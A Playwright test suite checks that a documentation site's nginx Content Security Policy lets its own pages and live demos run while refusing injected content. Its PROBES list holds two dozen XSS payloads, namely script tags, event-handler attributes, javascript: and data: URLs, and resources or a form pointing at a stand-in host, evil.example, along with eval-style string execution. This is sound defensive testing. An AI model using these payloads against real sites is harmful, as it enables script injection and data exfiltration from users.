import type { Browser, Page } from 'playwright-core';
import { launchShell } from '../browser/harness/launchBrowser';
import { waitForRuntime } from '../browser/harness/waitForRuntime';
import { startNginx, type Nginx } from './harness/startNginx';

const PAGE = '/material-ui/react-button/';
/** One page of each kind, and of each language. */
const KINDS = [
  '/',
  PAGE,
  '/material-ui/components/',
  '/material-ui/api/button/',
  '/versions/',
  '/x/react-data-grid/',
  '/joy-ui/react-select/',
  '/experiments/docs/demos/',
  '/zh/material-ui/react-button/',
  '/ar/material-ui/react-button/',
  '/no/such/page/',
];

let nginx: Nginx;
let browser: Browser;

beforeAll(async () => {
  nginx = await startNginx();
  browser = await launchShell();
});
afterAll(async () => {
  await browser.close();
  await nginx.stop();
});

/** A page that notes every refusal of the security policy. */
async function openWatched(): Promise<{ page: Page; refused: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const refused: string[] = [];
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const note = (window as unknown as { noteRefusal: (text: string) => void }).noteRefusal;
      note(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return { page, refused };
}

describe('under the policy that nginx sends', () => {
  it.each(KINDS)('%s runs whole, its demos included, and nothing is refused', async (path) => {
    const { page, refused } = await openWatched();
    await page.goto(nginx.origin + path);
    await waitForRuntime(page);
    for (const demo of await page.locator('[data-demo]').all()) await demo.scrollIntoViewIfNeeded();
    const mounted = page.waitForFunction(
      () => document.querySelector('[data-demo]:not([data-live])') === null,
    );
    await mounted.catch(() => {});
    const dead = await page.locator('[data-demo]:not([data-live])').count();
    // What a demo does right after it was mounted.
    await page.waitForTimeout(300);
    await page.context().close();
    expect({ refused, dead }).toEqual({ refused: [], dead: 0 });
  });

  it('client navigation between pages of every kind is not refused anything', async () => {
    const { page, refused } = await openWatched();
    await page.goto(`${nginx.origin}/`);
    await waitForRuntime(page);
    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
    for (const path of [...KINDS.slice(1, 9), '/']) {
      await page.evaluate((href) => {
        const link = document.createElement('a');
        link.href = href;
        document.body.append(link);
        link.click();
        link.remove();
      }, path);
      await page.waitForFunction((href) => window.location.pathname === href, path);
      await page.locator('main h1').waitFor();
      await page.waitForTimeout(300);
    }
    const same = await page.evaluate(() => 'sameDocument' in window);
    await page.context().close();
    expect({ refused, same }).toEqual({ refused: [], same: true });
  });

  it('an edited demo runs, and what it throws is told by its words', async () => {
    const { page, refused } = await openWatched();
    await page.goto(nginx.origin + PAGE);
    await waitForRuntime(page);
    const demo = page.locator('section[aria-label]').first();
    await demo.getByRole('button', { name: 'Edit live' }).click();
    const editor = demo.locator('.pce-textarea');
    await editor.waitFor({ state: 'attached' });
    await editor.fill(
      "export default () => <button onClick={() => { throw new Error('boom'); }}>Press</button>;",
    );
    await page.frameLocator('iframe[sandbox]').locator('button', { hasText: 'Press' }).click();
    await demo.locator('[role="status"]', { hasText: 'boom' }).waitFor();
    await page.context().close();
    expect(refused).toEqual([]);
  });

  it('dialogs and menus of demos open', async () => {
    const { page, refused } = await openWatched();
    await page.goto(`${nginx.origin}/material-ui/react-dialog/`);
    await waitForRuntime(page);
    const demo = page.locator('[data-demo="DeleteBranchDialog"]');
    await demo.scrollIntoViewIfNeeded();
    await page.locator('[data-demo="DeleteBranchDialog"][data-live]').waitFor();
    await demo.locator('button').first().click();
    await page.locator('.MuiDialog-root').first().waitFor();
    await page.context().close();
    expect(refused).toEqual([]);
  });
});

/** What an attacker might get into a page's text; each sets `pwned` or asks another host when it works. */
const PROBES: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<script type="module">window.pwned=1</script>',
  '<img src="/no.png" onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '<body onpageshow="window.pwned=1">',
  '<details open ontoggle="window.pwned=1"></details>',
  '<input autofocus onfocus="window.pwned=1">',
  '<video><source onerror="window.pwned=1" src="/no"></video>',
  '<a id="probe" href="javascript:window.pwned=1">x</a>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src="data:text/javascript,window.pwned=1"></script>',
  '<script src="//evil.example/x.js"></script>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<base href="https://evil.example/">',
  '<form id="probe-form" action="https://evil.example/"><input name="a"></form>',
  '<img src="https://evil.example/pixel.gif">',
  '<iframe src="https://evil.example/"></iframe>',
  '<audio src="https://evil.example/a.mp3" preload="auto"></audio>',
];

describe('what is injected into a page', () => {
  it.each(PROBES)('is refused: %s', async (probe) => {
    const { page, refused } = await openWatched();
    const asked: string[] = [];
    await page.route('**/*', async (route) => {
      const url = route.request().url();
      if (url.includes('evil.example')) {
        asked.push(url);
        await route.fulfill({ body: 'window.pwned=1', contentType: 'text/javascript' });
      } else if (url === nginx.origin + PAGE) {
        const response = await route.fetch();
        const body = (await response.text()).replace('<div id="_0"', `${probe}<div id="_0"`);
        await route.fulfill({ response, body });
      } else await route.continue();
    });
    await page.goto(nginx.origin + PAGE);
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#probe')?.click();
      document.querySelector<HTMLFormElement>('#probe-form')?.submit();
    });
    for (let tries = 0; tries < 200 && refused.length === 0; tries += 1) await page.waitForTimeout(50);
    await page.waitForTimeout(300);
    const pwned = await page.evaluate(() => 'pwned' in window);
    const base = await page.evaluate(() => new URL(document.baseURI).origin);
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    await page.context().close();
    expect({ pwned, asked, base }).toEqual({ pwned: false, asked: [], base: nginx.origin });
    expect(refused.length).toBeGreaterThan(0);
  });

  it('cannot make code from text, even from a script of the site', async () => {
    const { page, refused } = await openWatched();
    await page.route('**/probe.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: 'window.tried=0;for(const f of [()=>eval("window.pwned=1"),()=>new Function("window.pwned=1")(),()=>setTimeout("window.pwned=1")]){try{f()}catch{}window.tried++}',
      }),
    );
    await page.goto(nginx.origin + PAGE);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = '/probe.js';
      document.head.append(script);
    });
    await page.waitForFunction(() => 'tried' in window && window.tried === 3);
    // Once for each policy: that of the header and that of the document.
    for (let tries = 0; tries < 200 && refused.length < 6; tries += 1) await page.waitForTimeout(50);
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    await page.context().close();
    expect(refused.length).toBe(6);
  });
});
